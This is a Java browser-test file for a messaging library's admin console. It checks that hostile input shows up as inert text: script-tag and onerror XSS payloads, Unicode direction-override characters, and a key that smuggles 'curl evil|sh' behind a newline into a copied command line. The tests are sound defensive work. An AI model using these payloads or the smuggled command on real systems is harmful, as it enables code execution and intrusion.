package io.waybill.console.web;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.waybill.console.ConsoleOptions;
import io.waybill.console.TripProcess;
import io.waybill.console.api.Action;
import io.waybill.console.api.ConsoleDatabase;
import io.waybill.console.http.ConsoleServer;
import io.waybill.console.request.Identity;
import io.waybill.console.request.Role;
import io.waybill.message.Message;
import io.waybill.ops.OutboxOperations;
import io.waybill.runtime.Waybill;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.json.JsonMapper;

/** Texts that are hostile, and the texts of command lines, in a real browser. */
class TextPagesTest extends PagesScenario {

    private static final String HOSTILE =
            "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\"> javascript:alert(1) \u202Egnp.exe\u2066";

    private final Waybill application = Waybill.on(database.dataSource())
            .handlers(new TripProcess.Partners(new AtomicBoolean()))
            .processes(new TripProcess())
            .start();

    TextPagesTest() {
        super(Role.ADMIN);
    }

    @Override
    void endApplication() {
        application.close();
    }

    @Test
    void what_is_hostile_or_endless_is_shown_as_text() {
        failHandling(HOSTILE, HOSTILE + "x".repeat(1_000_000));
        store.transactions()
                .inTransaction(transaction -> store.outbox()
                        .append(Message.event("<b>Order</b>", "\"" + "y".repeat(1_000_000) + "\"")
                                .to("orders")));

        open("failures");
        browser.awaitText("<script>document.title='owned'</script>");
        browser.awaitText("[U+202E]gnp.exe[U+2066]");
        browser.evaluate("document.querySelector('li.group a').click()");
        browser.awaitText("Failed messages");
        browser.evaluate("document.querySelector('tbody th a').click()");
        browser.awaitText("Stack trace");
        browser.awaitText("<img src=x onerror=\"document.title='owned'\"> javascript:alert(1)");
        browser.click("Messages");
        browser.click("<b>Order</b>");
        browser.click("Show all 976.6 kB");
        browser.awaitTrue("document.querySelector('pre').innerText.length > 1000000");
        assertThat(browser.evaluate("document.title").asString()).doesNotContain("owned");
        assertThat(browser.evaluate(
                                "document.querySelectorAll('main script, main img, main b, a[href^=javascript]').length")
                        .asInt())
                .isZero();
        assertThat(browser.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
                        .asBoolean())
                .isTrue();
        assertThat(browser.problems()).isEmpty();
    }

    @Test
    void no_text_changes_its_direction_or_hides_a_character() throws IOException {
        String turned = "trip\u202E\u2066\u00AD\u2062\u180E";
        UUID id = blockedTrip(application, turned);
        new OutboxOperations(store.admin()).pause(turned, turned, turned);
        failHandling(turned, turned);
        failPublishing();
        Map<String, String> actions = Map.of(
                "processes",
                "Start a process",
                "processes?id=" + id,
                "Retry",
                "failures",
                "Retry all",
                "messages?queue=order-1&destination=courier",
                "Unblock",
                "commands",
                "Send a command",
                "audit",
                "Pause updates",
                "overview",
                "Pause updates",
                "correlation?id=" + id,
                "Pause updates");
        for (var page : actions.entrySet()) {
            open(page.getKey());
            browser.awaitTrue("!document.body.innerText.includes('Loading')");
            browser.click(page.getValue());
            browser.awaitTrue("document.querySelector('dialog') || '" + page.getValue() + "' === 'Pause updates'");
            assertThat(browser.evaluate("document.documentElement.outerHTML").asString())
                    .as(page.getKey())
                    .doesNotContainPattern("[\u202E\u2066\u00AD\u2062\u180E]");
        }
        open("processes?id=" + id);
        browser.awaitText("Trip trip[U+202E][U+2066][U+00AD][U+2062][U+180E]");
        pictures("turned");
        try (Stream<Path> pages = Files.list(Path.of("src/main/resources/io/waybill/console/web"))) {
            assertThat(pages.filter(page -> page.toString().endsWith(".js")).filter(page -> !page.endsWith("view.js")))
                    .as("all of them write through view.js")
                    .isNotEmpty()
                    .allSatisfy(page -> assertThat(page).content().doesNotContain("'./vendor/"));
        }
        assertThat(browser.problems()).isEmpty();
    }

    @Test
    void command_lines_quote_as_the_server_does() {
        open("overview");
        for (String value : QuotedTest.HOSTILE) {
            String json = JsonMapper.shared().writeValueAsString(value);
            assertThat(browser.evaluate("import('./format.js').then(format => format.quoted(" + json + "))")
                            .asString())
                    .as(json)
                    .isEqualTo(Action.quoted(value));
        }
    }

    @Test
    void a_copied_command_line_runs_nothing_that_a_key_says() throws IOException {
        String key = "a\u0003\ncurl evil|sh\n\u202E";
        store.transactions()
                .inTransaction(transaction -> store.outbox()
                        .append(Message.event("Shipment", "{}").to("courier").inOrderOf(key)));
        failPublishing();
        open("messages?destination=courier&queue=" + URLEncoder.encode(key, UTF_8));
        browser.click("Unblock");
        browser.type("reason", "ok");
        browser.click(OPEN_LINE);
        browser.awaitText("waybill outbox unblock courier $'a\\003\\012curl evil|sh\\012[U+202E]' --reason ok");
        pictures("hostile-command");
        browser.evaluate(
                "{ navigator.clipboard.writeText = text => { window.copied = text; return Promise.resolve(); }; 0 }");
        browser.click("Copy as CLI command");
        browser.awaitText("Copied");
        assertThat(browser.evaluate("window.copied").asString())
                .isEqualTo("waybill outbox unblock courier " + Action.quoted(key) + " --reason ok")
                .doesNotContain("\n");
        browser.click("Unblock");
        browser.awaitText("Nothing was changed: nothing stops the key.");
        assertThat(browser.problems()).isEmpty();
    }

    @Test
    void json_is_indented_unless_it_is_very_deep() {
        open("overview");
        String json = "'{\"a\":[],\"b\":{ },\"c\":[1.50,{\"d\":\"x,\\\\\"]\"}]}'";
        assertThat(browser.evaluate("import('./format.js').then(format => format.indented(" + json + "))")
                        .asString())
                .isEqualTo("""
                        {
                          "a": [],
                          "b": {},
                          "c": [
                            1.50,
                            {
                              "d": "x,\\"]"
                            }
                          ]
                        }""");
        assertThat(browser.evaluate(
                                "import('./format.js').then(format => { const deep = '['.repeat(10000) + ']'.repeat(10000);"
                                        + " return format.indented(deep) === deep; })")
                        .asBoolean())
                .isTrue();
    }

    @Test
    void a_console_of_several_databases_names_the_database_in_command_lines() throws IOException {
        failHandling("order-1", "no ink");
        var databases = List.of(
                ConsoleDatabase.of("billing", "h2:mem:billing", store),
                ConsoleDatabase.of("shop", "h2:mem:shop", store));
        var several = ConsoleOptions.of(databases).local(new Identity("ann", Role.ADMIN));
        try (ConsoleServer other = serve(several)) {
            browser.look(1280, false);
            browser.open(address(other, "failures?db=shop"));
            browser.click("Retry all");
            browser.click(OPEN_LINE);
            browser.awaitText("--handler billing --context shop --reason why");
            browser.click("Cancel");
            browser.evaluate("document.querySelector('li.group a').click()");
            browser.awaitText("Failed messages");
            browser.evaluate("document.querySelector('tbody th a').click()");
            browser.click("Edit and retry");
            browser.click(OPEN_LINE);
            browser.awaitText("--context shop --reason why && waybill failed retry --id 1 --context shop --reason why");
            pictures("several-databases");
            open("audit"); // of a server that goes on
        }
    }
}
